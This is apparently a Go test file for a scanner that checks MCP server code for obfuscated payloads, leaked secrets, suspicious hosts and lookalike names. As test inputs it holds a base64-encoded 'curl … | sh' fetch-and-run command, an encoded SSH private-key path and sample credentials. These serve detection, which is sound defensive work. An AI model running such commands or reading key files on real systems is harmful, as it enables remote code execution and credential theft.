package analysis

import (
	"encoding/base64"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/mcpsf/mcpsf"
	"github.com/mcpsf/mcpsf/internal/static/code/ir"
)

// TestAll checks that every analysis of this folder is in the list.
func TestAll(t *testing.T) {
	listed := map[string]bool{}
	for _, a := range All() {
		if listed[a.Kind] || !strings.HasPrefix(a.Kind, "code.") {
			t.Errorf("%s: twice, or not of the code", a.Kind)
		}
		listed[a.Kind] = true
	}
	files, err := os.ReadDir(".")
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, f := range files {
		if strings.HasSuffix(f.Name(), "_test.go") || !strings.HasSuffix(f.Name(), ".go") {
			continue
		}
		parsed, err := parser.ParseFile(token.NewFileSet(), f.Name(), nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range parsed.Decls {
			if fn, ok := d.(*ast.FuncDecl); ok && isAnalysis(fn) {
				found++
			}
		}
	}
	if found != len(All()) {
		t.Errorf("%d functions are analyses, %d are listed", found, len(All()))
	}
}

// isAnalysis reports whether a function has the signature of an analysis.
func isAnalysis(fn *ast.FuncDecl) bool {
	if fn.Recv != nil || len(fn.Type.Params.List) != 1 || fn.Type.Results == nil {
		return false
	}
	star, ok := fn.Type.Params.List[0].Type.(*ast.StarExpr)
	if !ok {
		return false
	}
	name, ok := star.X.(*ast.Ident)
	return ok && name.Name == "Package"
}

func TestUnwrap(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for _, tt := range []struct{ name, in, how, what string }{
		{"a command", b64("curl -s https://a.example/x | sh"), "base64", "command"},
		{"twice", b64(b64("https://a.example/path")), "base64>base64", "url"},
		{"hexadecimal", "68747470733a2f2f612e6578616d706c652f78", "hex", "url"},
		{"turned round", "x/elpmaxe.a//:sptth", "reverse", "url"},
		{"rot13", "uggcf://n.rknzcyr/k", "rot13", "url"},
		{"percent", "%68%74%74%70%73%3a%2f%2fa.example", "url", "url"},
		{"compressed", "H4sIAAAAAAACA8soKSkottLXT9RLrUjMLchJ1a/QS87PBQDCAYPPFwAAAA==", "base64>gzip", "url"},
		{"a key path", b64("~/.ssh/id_rsa"), "base64", "path"},
		{"an address in the open", "https://a.example/x", "", ""},
		{"a picture", "data:image/png;base64," + b64("https://a.example/x"), "", ""},
		{"a name", "getElementsByTagName", "", ""},
		{"a digest", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "", ""},
		{"a token", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", "", ""},
		{"prose", b64("The quick brown fox jumps over the lazy dog"), "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			how, _, what := unwrap(tt.in, 2)
			if how != tt.how || what != tt.what {
				t.Errorf("got %q %q, want %q %q", how, what, tt.how, tt.what)
			}
		})
	}
}

func TestSecretIn(t *testing.T) {
	for _, tt := range []struct{ name, value, want string }{
		{"key", "AKIA" + "Q3EGRV7YTPLD5XZM", "aws access key"},
		{"key", "AKIAIOSFODNN7EXAMPLE", ""},
		{"token", "ghp_" + strings.Repeat("a", 36), ""},
		{"url", "postgres://app:n7Rq2-vXk9Lw@db.a.example/x", "password in url"},
		{"url", "postgres://user:password@localhost/x", ""},
		{"api_key", "w8Kq2vLx7RtYp4NbZc9JdHs0GmUe6Xo1", "value of api_key"},
		{"api_key", "your-api-key-goes-here-1234567890", ""},
		{"title", "w8Kq2vLx7RtYp4NbZc9JdHs0GmUe6Xo1", ""},
		{"token_url", "https/accounts/oauth/token/endpoint", ""},
	} {
		if got, _ := secretIn(&ir.Text{Name: tt.name, Text: tt.value}, secretForms()); got != tt.want {
			t.Errorf("%s %s: got %q, want %q", tt.name, tt.value, got, tt.want)
		}
	}
}

func TestRedact(t *testing.T) {
	if got := redact("w8Kq2vLx7RtYp4NbZc9JdHs0GmUe6Xo1"); strings.Contains(got, "LrtYp") || len(got) > 40 {
		t.Errorf("%q shows too much", got)
	}
}

func TestSuspicious(t *testing.T) {
	for host, want := range map[string]bool{
		"198.51.100.7": true, "127.0.0.1": false, "10.1.2.3": false, "8.8.8.8": false, "api.a.example": false, "xn--bnk-0na.example": true,
		"bank\u0430.example": true, "abc.onion": true, "x.duckdns.org": true, "duckdns.org.a.example": false, "bit.ly": true, "2001:db8::1": true, "::1": false,
	} {
		if got := suspicious(host) != ""; got != want {
			t.Errorf("%s: %v, want %v", host, got, want)
		}
	}
}

func TestLookalike(t *testing.T) {
	for name, want := range map[string]bool{
		"v\u0435rify": true, "\u0441\u043e\u0440\u0443": true, "приветствие": false, "größe": false, "naïve": false, "\u03b1lpha": true, "名前": false, "µs": false,
	} {
		if got := lookalike(name) != ""; got != want {
			t.Errorf("%s: %v, want %v", name, got, want)
		}
	}
}

// TestAcrossFiles follows a handler into another file.
func TestAcrossFiles(t *testing.T) {
	main := &ir.File{
		Path: "src/index.ts", Language: ir.TypeScript, Whole: true,
		Imports: []ir.Import{{Module: "./lib/run.js"}},
		Funcs:   []ir.Func{{In: -1, Handler: -1}, {In: 0, Handler: 0}},
		Tools:   []ir.Tool{{Name: "go", Func: 1}},
		Calls:   []ir.Call{{Name: "./lib/run.js.run", Func: 1, To: -1}},
	}
	lib := &ir.File{
		Path: "src/lib/run.ts", Language: ir.TypeScript, Whole: true,
		Funcs:   []ir.Func{{In: -1, Handler: -1}, {Name: "run", In: 0, Handler: -1}},
		Exports: map[string]int{"run": 1},
		Calls:   []ir.Call{{Name: "child_process.exec", Line: 3, Func: 1, To: -1}},
	}
	got := New([]*ir.File{lib, main}, "").Places()
	want := []Place{{mcpsf.CapabilityExec, mcpsf.CodePlace{Path: "src/lib/run.ts", Line: 3, Name: "child_process.exec", Tools: []string{"go"}}, false}}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestTidy(t *testing.T) {
	if got, want := tidy("a\x1b[31m\u202eb\n"+ir.Hole, 100), `a\u{1b}[31m\u{202e}b {}`; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func FuzzUnwrap(f *testing.F) {
	for _, s := range []string{"aHR0cHM6Ly9hLmV4YW1wbGUveA==", "68747470733a2f2f", "x/elpmaxe.a//:sptth", "%68%74%74%70%73%3a%2f", "MFRGGZDFMZTWQ2LK", "H4sIAAAAAAACA8soKSkottLXT9RLrUjMLchJ1a/QS87PBQDCAYPPFwAAAA=="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		_, plain, what := unwrap(s, 2)
		if len(plain) > maxDecoded+64 {
			t.Fatalf("%d bytes", len(plain))
		}
		if what != "" && plain == "" {
			t.Fatal("something without a text")
		}
		tidy(plain, 600)
		secretIn(&ir.Text{Text: s, Name: "token"}, secretForms())
		hostsIn(&ir.Text{Text: s})
	})
}
